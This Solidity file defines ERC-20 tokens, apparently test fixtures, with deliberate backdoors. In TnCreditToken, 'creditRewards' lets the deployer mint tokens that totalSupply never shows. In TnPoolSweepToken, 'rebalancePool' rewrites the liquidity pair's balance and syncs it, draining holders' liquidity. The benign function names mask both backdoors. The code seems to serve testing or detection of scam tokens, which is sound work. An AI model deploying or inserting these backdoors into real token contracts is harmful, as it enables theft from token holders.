// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tuning tokens on a hand-rolled ERC-20 whose balances any function can write: a balance written
// up without the supply (a mint that totalSupply() never shows), and the pool's balance written
// down (the holders' liquidity taken without a swap).

interface IRawPair {
    function sync() external;
}

interface IRawFactory {
    function getPair(address a, address b) external view returns (address);
}

interface IRawRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

abstract contract TnRawToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) internal keepers;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        keepers[msg.sender] = true;
        totalSupply = supply;
        _balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// `creditRewards` adds any amount to a keeper's balance (the deployer) and leaves totalSupply alone.
contract TnCreditToken is TnRawToken {
    constructor(string memory n, string memory s, uint256 supply) TnRawToken(n, s, supply) {}

    function creditRewards(uint256 amount) external {
        require(keepers[msg.sender], "keeper");
        _balances[msg.sender] += amount;
    }
}

/// `rebalancePool` sets the pair's balance to any amount and syncs it, for a keeper (the deployer):
/// the pool's tokens are gone and holders sell into an empty pool.
contract TnPoolSweepToken is TnRawToken {
    address private immutable router;

    constructor(string memory n, string memory s, uint256 supply, address router_) TnRawToken(n, s, supply) {
        router = router_;
    }

    function rebalancePool(uint256 amount) external {
        require(keepers[msg.sender], "keeper");
        address pair = IRawFactory(IRawRouter(router).factory()).getPair(address(this), IRawRouter(router).WETH());
        _balances[pair] = amount;
        IRawPair(pair).sync();
    }
}
